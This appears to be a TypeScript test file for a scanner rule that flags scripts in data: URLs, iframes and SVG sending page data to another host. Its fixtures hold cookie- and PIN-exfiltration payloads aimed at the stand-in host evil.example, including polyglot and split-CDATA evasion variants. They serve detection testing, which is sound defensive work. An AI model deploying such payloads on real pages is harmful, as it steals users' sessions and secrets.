import { gzipSync } from 'node:zlib';
import { cases, html, inTemplate, markup, quoted, svg, url } from './cases.ts';

const script = (text: string) => url('text/javascript', text);
const framed = (text: string) => html(`<script>${text}</script>`);
const direct = `location="https://evil.example/"+document.cookie`;
const inOrigin = { source: 'document.cookie', request: 'location: https://evil.example' };
const sends = { severity: 'error', messageId: 'script-sends' } as const;
const isRefused = { severity: 'error', messageId: 'script-sends-refused' } as const;

cases(
  'sends-page-data',
  {
    'a script of the page': { written: script(direct), where: 'script', ...sends, args: inOrigin },
    'one of any type': { written: url('text/plain', direct), where: 'script', ...sends },
    'one that says it is HTML': { written: url('text/html', direct), where: 'script', ...sends },
    'one that begins as a picture does': {
      written: script(`GIF89a=1;${direct}`),
      where: 'script',
      ...sends,
      besides: ['polyglot', 'bomb', 'wrong-type'],
    },
    'framed HTML': { written: framed(direct), where: 'iframe', ...isRefused, args: inOrigin },
    'framed HTML that sends what is typed': {
      written: framed(`fetch('https://evil.example/?'+document.forms[0].pin.value)`),
      where: 'iframe',
      ...sends,
      args: { source: 'document.forms.0.pin.value', request: 'fetch: https://evil.example' },
    },
    'an event handler': {
      written: html(`<img src=data:, onerror="location='https://evil.example/?'+cookie">`),
      where: 'iframe',
      ...isRefused,
      args: inOrigin,
    },
    'a javascript: link': {
      written: html(`<a href="javascript:location='https://evil.example/?'+document%2Ecookie">x</a>`),
      where: 'iframe',
      ...isRefused,
      besides: ['syntax'],
    },
    'a srcdoc within': {
      written: html(`<iframe srcdoc="<script>${direct.replaceAll('"', '&quot;')}</script>"></iframe>`),
      where: 'iframe',
      ...isRefused,
    },
    'SVG, its script in pieces': {
      written: svg(`<script>location="https://evil.example/?a=1&amp;"+docu<![CDATA[ment.cookie]]></script>`),
      where: 'iframe',
      ...isRefused,
    },
    'a link': { written: framed(direct), where: 'document', ...isRefused, severity: 'warning' },
    'in a template it may come to run': {
      written: framed(direct),
      where: inTemplate('iframe'),
      ...isRefused,
      severity: 'warning',
    },
    'a page that is only quoted': {
      written: framed(direct),
      where: quoted,
      ...isRefused,
      severity: 'info',
      besides: ['disallowed-type'],
    },
    'a base to which relative addresses lead': {
      written: html(`<base href=https://evil.example/a><script>fetch('x?'+document.cookie)</script>`),
      where: 'iframe',
      ...isRefused,
      args: { source: 'document.cookie', request: 'fetch: https://evil.example' },
    },
    'a computed address': {
      written: script('fetch(u+document.cookie)'),
      where: 'script',
      ...sends,
      severity: 'warning',
      besides: ['disallowed-type'],
    },
    'both in the same script': {
      written: script(`function f(a){fetch('https://evil.example/?'+a)}f(document.cookie)`),
      where: 'script',
      severity: 'warning',
      messageId: 'script-may-send',
      args: { source: 'document.cookie', request: 'fetch: https://evil.example' },
      besides: ['disallowed-type'],
    },
  },
  {
    'a script that reads': {
      written: script('x(document.cookie)'),
      where: 'script',
      besides: ['disallowed-type'],
    },
    'a script that asks': {
      written: script(`fetch('https://a.example/')`),
      where: 'script',
      besides: ['disallowed-type'],
    },
    'the page asks its own server': {
      written: script(`fetch('/a?'+document.cookie)`),
      where: 'script',
      besides: ['disallowed-type'],
    },
    'a data: document, in which that leads nowhere': {
      written: framed(`fetch('//a.example/?'+document.cookie)`),
      where: 'iframe',
      besides: ['active-content'],
    },
    'a comment and a string': {
      written: script(`// ${direct}\nx='${direct}'`),
      where: 'script',
      besides: ['disallowed-type'],
    },
    'a picture': { written: framed(direct), where: 'image', besides: ['disallowed-type', 'active-content'] },
    'a block of data': {
      written: html(`<script type="application/json">${direct}</script>`),
      where: 'iframe',
      besides: ['disallowed-type'],
    },
    'text that is only quoted': { written: markup('text/plain', direct), where: quoted },
    'what is compressed, as no browser reads it': {
      written: url('text/javascript', gzipSync(direct)),
      where: 'script',
      besides: ['disallowed-type', 'compressed-body'],
    },
    'text in a frame': { written: markup('text/plain', direct), where: 'iframe' },
  },
);
